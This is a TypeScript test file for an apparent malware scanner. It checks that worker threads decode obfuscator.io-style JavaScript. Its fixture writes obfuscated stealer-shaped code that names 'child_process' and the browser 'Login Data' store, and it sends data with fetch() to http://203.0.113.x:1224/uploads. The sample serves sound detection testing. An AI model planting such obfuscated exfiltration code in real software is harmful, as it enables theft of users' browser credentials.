import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { deobfuscatorAvailable } from '../analyzers/js/deobfuscate.js';
import { Engine, type FileRef } from './pool.js';

/** obfuscator.io-shaped (string array, rotation loop that ends at once, accessor) with a stealer's strings. */
const obfuscated = (host: string) =>
  [
    `function _0x1b2c(){const _0x5a1f3e=['child_process','Login\\x20Data','http://${host}:1224/uploads','1'];_0x1b2c=function(){return _0x5a1f3e;};return _0x1b2c();}`,
    'function _0x4e7a(_0x2d8f11,_0x3c9a22){const _0x1b2c33=_0x1b2c();return _0x4e7a=function(_0x4e7a44,_0x1a2b55){_0x4e7a44=_0x4e7a44-0x0;let _0x5c6d66=_0x1b2c33[_0x4e7a44];return _0x5c6d66;},_0x4e7a(_0x2d8f11,_0x3c9a22);}',
    "(function(_0x3a1b77,_0x2c4d88){const _0x5e6f99=_0x4e7a,_0x1a2baa=_0x3a1b77();while(!![]){try{const _0x4c5dbb=parseInt(_0x5e6f99(0x3));if(_0x4c5dbb===_0x2c4d88)break;else _0x1a2baa['push'](_0x1a2baa['shift']());}catch(_0x3e4fcc){_0x1a2baa['push'](_0x1a2baa['shift']());}}}(_0x1b2c,0x1));",
    'const _0x2f3a01=require(_0x4e7a(0x0));fetch(_0x4e7a(0x2),{body:_0x4e7a(0x1)});\n',
  ].join('');

describe('deobfuscation from worker threads goes through the main thread helper', { skip: !deobfuscatorAvailable() && 'webcrack/isolated-vm not installed', timeout: 120_000 }, () => {
  const dir = mkdtempSync(join(tmpdir(), 'lurescan-deob-port-'));
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('obfuscated files in separate batches of two threads are all decoded, batch after batch', async () => {
    const files: FileRef[] = [];
    for (let i = 1; i <= 3; i++) {
      const rel = `api/keygen${i}.js`;
      const abs = join(dir, `keygen${i}.js`);
      writeFileSync(abs, obfuscated(`203.0.113.${i}`));
      files.push({ rel, abs, size: 2000 });
    }
    const engine = Engine.start({ threads: 2 });
    try {
      for (const round of [1, 2]) {
        // One file per run: separate batches, so each one gets its own port to the helper.
        for (const f of files) {
          const { results, errors } = await engine.run([f], { maxFileBytes: 1 << 20, ruleSelection: { only: ['obfuscator-io'] }, fileTimeoutMs: 60_000 });
          assert.deepEqual(errors, [], `round ${round}`);
          const finding = results[0]!.findings.find((x) => x.ruleId === 'obfuscator-io');
          assert.ok(finding, `round ${round}: ${f.rel} reported`);
          assert.match(finding.decoded ?? '', new RegExp(`203\\.0\\.113\\.${f.rel.slice(-4, -3)}:1224`), `round ${round}: ${finding.message}`);
        }
      }
    } finally {
      await engine.close();
    }
  });

  it('obfuscated files of one batch are sent ahead together, and each is decoded (its own strings)', async () => {
    const files: FileRef[] = [];
    for (let i = 4; i <= 6; i++) {
      const abs = join(dir, `batch${i}.js`);
      writeFileSync(abs, obfuscated(`203.0.113.${i}`));
      files.push({ rel: `api/batch${i}.js`, abs, size: 2000 });
    }
    const engine = Engine.start({ threads: 2 });
    try {
      const { results, errors } = await engine.run(files, { maxFileBytes: 1 << 20, ruleSelection: { only: ['obfuscator-io'] }, fileTimeoutMs: 60_000 });
      assert.deepEqual(errors, []);
      for (const f of files) {
        const finding = results.find((r) => r.facts.path === f.rel)?.findings.find((x) => x.ruleId === 'obfuscator-io');
        assert.ok(finding, `${f.rel} reported`);
        assert.match(finding.decoded ?? '', new RegExp(`203\\.0\\.113\\.${f.rel.slice(-4, -3)}:1224`), finding.message);
      }
    } finally {
      await engine.close();
    }
  });
});
